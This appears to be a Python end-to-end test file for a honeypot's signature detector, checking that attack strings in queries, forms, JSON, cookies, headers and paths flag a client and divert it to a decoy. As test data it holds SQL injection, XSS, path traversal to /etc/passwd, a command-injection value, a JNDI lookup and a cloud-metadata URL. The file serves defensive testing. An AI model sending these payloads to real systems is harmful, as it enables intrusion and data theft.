"""The signature detector end to end (hpapp): an attack string in the query, form or JSON body,
path, cookies or headers flags the client by default (weight 100, the threshold), diverting the
very request that carries it. With a lower weight, each rule class counts once per request and
hits add up. Benign sessions never flag. Configuration: enabled, weight, a rules file replacing
the built-in set (a bad one stops the start)."""
import json
import os
import subprocess
import tempfile
import urllib.parse

from harness import BUILD, Client, Server, run, test

APP = os.environ.get("HP_TEST_SERVER", os.path.join(BUILD, "tests", "hpapp-asan"))
BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/120.0.0.0 Safari/537.36")


def server(**env):
    e = {"MITSU_JOURNAL_LOG": "stderr"}
    e.update(env)
    return Server(binary=APP, env=e)


def q(**params):
    return urllib.parse.urlencode(params)


def browse(c, path, **kw):
    headers = {"User-Agent": BROWSER}
    headers.update(kw.pop("headers", {}))
    return c.request(kw.pop("method", "GET"), path, headers=headers, **kw)


def post_form(c, path, **fields):
    return browse(c, path, method="POST", body=q(**fields).encode(),
                  headers={"Content-Type": "application/x-www-form-urlencoded"})


def state(c):
    return browse(c, "/state")[2]


SQLI = "1' UNION SELECT password FROM users--"


def tuned(**env):
    """A server whose signature weight is lowered to 40: hits must add up to flag."""
    return server(MITSU_SIGNATURE_WEIGHT="40", **env)


@test
def one_sql_injection_flags_by_default_and_is_itself_diverted():
    with server() as srv:
        c = Client(srv)
        status, _, body, _ = browse(c, "/api/search?" + q(q=SQLI))
        assert status == 200, (status, body)
        assert "decoy=1" in body, "the request carrying the payload is served by the decoy"
        assert "state=attacker" in state(c)


@test
def with_weight_40_one_sql_injection_does_not_flag_alone():
    with tuned() as srv:
        c = Client(srv)
        status, _, body, _ = browse(c, "/api/search?" + q(q=SQLI))
        assert status == 200, (status, body)
        assert "state=normal" in state(c)


@test
def three_classes_in_one_request_flag():
    with tuned() as srv:
        c = Client(srv)
        browse(c, "/api/search?" + q(q=SQLI, name="<script>alert(1)</script>",
                                     file="../../../../etc/passwd"))
        assert "state=attacker decoy=1" in state(c), state(c)


@test
def a_class_counts_once_per_request_and_repeats_add_up():
    with tuned() as srv:
        c = Client(srv)
        # three SQL injections in one request: 40, not 120
        browse(c, "/api/a?" + q(a=SQLI, b="' or '1'='1", c="1; DROP TABLE users--"))
        assert "state=normal" in state(c), "one class counted more than once"
        browse(c, "/api/b?" + q(id="1 AND SLEEP(5)"))
        assert "state=normal" in state(c)
        browse(c, "/api/c?" + q(id="admin'--"))
        assert "state=attacker" in state(c), "three requests of 40 reach 100"


@test
def a_scanner_user_agent_adds_up():
    with tuned() as srv:
        c = Client(srv)
        sqlmap = {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}
        c.get("/api/x?" + q(id="1"), headers=sqlmap)
        assert "state=normal" in c.get("/state", headers=sqlmap)[2]
        c.get("/api/x?" + q(id="1' AND 1=1-- -"), headers=sqlmap)
        assert "state=attacker" in c.get("/state", headers=sqlmap)[2]


@test
def form_json_cookie_and_header_payloads_count():
    with tuned() as srv:
        c = Client(srv)
        post_form(c, "/api/login", user="admin' OR '1'='1' --", password="x")
        assert "state=normal" in state(c)
        body = json.dumps({"comment": "{{7*7}}", "tags": ["a"]}).encode()
        browse(c, "/api/comments", method="POST", body=body,
               headers={"Content-Type": "application/json"})
        assert "state=normal" in state(c)
        c.cookies["pref"] = "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        browse(c, "/api/x", headers={"X-Api-Version": "${jndi:ldap://x.example/a}"})
        assert "state=attacker" in state(c), state(c)


@test
def the_id_cookie_is_scanned_unless_it_is_a_known_id():
    """A known client id (32 hex digits) cannot carry an attack and is not scanned; anything
    else in the id cookie is, like any cookie."""
    with server() as srv:
        c = Client(srv)
        for _ in range(3):
            browse(c, "/api/x")
        assert "sid" in c.cookies, c.cookies
        assert "state=normal" in state(c), "a browser sending its id back"
        other = Client(srv)
        browse(other, "/api/x")
        browse(other, "/api/x", cookie="sid=1' UNION SELECT password FROM users--")
        assert "state=attacker" in state(other), state(other)


@test
def a_browser_repeating_its_headers_is_caught_when_one_changes():
    """Workers remember the last block of header fields they found clean: the same fields again
    are not looked at, but any change (a cookie, the User-Agent) is."""
    with server() as srv:
        c = Client(srv)
        for _ in range(6):
            browse(c, "/api/x")
        assert "state=normal" in state(c)
        c.cookies["pref"] = "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        browse(c, "/api/x")
        assert "state=attacker" in state(c), state(c)
        d = Client(srv)
        for _ in range(6):
            browse(d, "/api/x")
        browse(d, "/api/x", headers={"User-Agent": BROWSER[:-1] + "' OR 1=1--"})
        assert "state=attacker" in state(d), state(d)


@test
def traversal_in_the_path_is_seen_decoded():
    with server() as srv:
        c = Client(srv)
        browse(c, "/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
        browse(c, "/api/x?" + q(u="http://169.254.169.254/latest/meta-data/"))
        browse(c, "/api/y?" + q(cmd="; cat /etc/passwd"))
        assert "state=attacker" in state(c), state(c)


@test
def a_flag_by_signature_is_logged_with_its_evidence():
    srv = server()
    srv.start()
    c = Client(srv)
    browse(c, "/api/search?" + q(q=SQLI, x="<svg/onload=alert(1)>", y="${jndi:ldap://e/a}"))
    srv.stop()
    lines = [json.loads(l) for l in srv.stderr_text().splitlines() if l.startswith("{")]
    flags = [l for l in lines if l.get("event") == "flag"]
    assert len(flags) == 1, lines
    assert flags[0]["detector"] == "signature", flags[0]
    assert "rule" in flags[0]["evidence"], flags[0]


@test
def a_benign_session_never_flags():
    with server() as srv:
        c = Client(srv)
        values = [
            "O'Brien", "D'Angelo", "Select your union representative", "drop table tennis",
            "1=1 math", "It's 5 o'clock; see you then", "Tom & Jerry | Season 1",
            "He said 'hello' -- then left", "o'brien@example.com", "JavaScript: The Good Parts",
            "https://example.com/search?q=a&page=2", "C++ & C#", "50% off!!!",
            "Where are my orders from last week?", "Run `ls -la` then `cat notes.txt`",
        ]
        for i, v in enumerate(values):
            assert browse(c, "/api/search?" + q(q=v, page=str(i)))[0] == 200
            post_form(c, "/api/comments", name="Mary O'Neill", comment=v)
        body = json.dumps({"name": "Zoë D'Arcy-Smith", "note": "I'd rather not; thanks!",
                           "tags": ["union", "select", "or"]}).encode()
        for _ in range(3):
            browse(c, "/api/profile", method="POST", body=body,
                   headers={"Content-Type": "application/json",
                            "Referer": "https://example.com/search?q=o%27brien",
                            "Accept-Language": "en-US,en;q=0.9,fr;q=0.8"})
        c.cookies["prefs"] = "%7B%22theme%22%3A%22dark%22%7D"
        for p in ("/", "/pages/about", "/api/users/42/orders", "/pages/o'brien"):
            browse(c, p)
        for agent in ("curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1"):
            c.get("/api/status", headers={"User-Agent": agent})
        assert "state=normal" in state(c), state(c)


@test
def disabled_signature_detects_nothing():
    with server(MITSU_SIGNATURE_ENABLED="false") as srv:
        c = Client(srv)
        for _ in range(3):
            browse(c, "/api/x?" + q(a=SQLI, b="<script>alert(1)</script>", c="../../../etc/passwd"))
        assert "state=normal" in state(c)


@test
def the_weight_is_configurable():
    with server(MITSU_SIGNATURE_WEIGHT="99") as srv:
        c = Client(srv)
        browse(c, "/api/x?" + q(a=SQLI))
        assert "state=normal" in state(c), "99 is under the threshold"
        browse(c, "/api/y?" + q(a=SQLI))
        assert "state=attacker" in state(c)


@test
def a_rules_file_replaces_the_built_in_rules():
    with tempfile.NamedTemporaryFile("w", suffix=".rules", delete=False) as f:
        f.write("# site rules\ncanary 1 args \\bblue-canary\\b\n")
    try:
        with server(MITSU_SIGNATURE_RULES=f.name, MITSU_SIGNATURE_WEIGHT="100") as srv:
            c = Client(srv)
            browse(c, "/api/x?" + q(a=SQLI))
            assert "state=normal" in state(c), "the built-in rules still apply"
            browse(c, "/api/x?" + q(a="a blue-canary here"))
            assert "state=attacker" in state(c)
    finally:
        os.unlink(f.name)


@test
def a_bad_rules_file_stops_the_start_naming_file_and_line():
    with tempfile.NamedTemporaryFile("w", suffix=".rules", delete=False) as f:
        f.write("sqli 1 args union\nsqli 2 args (unclosed\n")
    try:
        env = dict(os.environ, MITSU_SERVER_LISTEN="127.0.0.1:0", MITSU_SIGNATURE_RULES=f.name,
                   ASAN_OPTIONS="detect_leaks=1")
        p = subprocess.run([APP], env=env, capture_output=True, timeout=20)
        assert p.returncode != 0, p
        err = p.stderr.decode(errors="replace")
        assert "%s:2:" % f.name in err and "bad regex" in err, err
        assert "Sanitizer" not in err, err
    finally:
        os.unlink(f.name)


run()
